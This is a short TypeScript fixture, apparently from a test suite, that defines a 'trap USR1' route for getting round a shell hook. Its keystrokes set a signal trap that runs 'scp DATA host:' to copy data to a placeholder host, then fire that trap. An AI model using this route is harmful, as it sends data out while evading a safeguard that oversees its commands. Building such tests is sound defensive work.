import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'trap USR1',
  source: 'attempts to get round a hook of the shell',
  keys: ["trap 'scp DATA host:' USR1\r", 'kill -USR1 $$\r'],
};
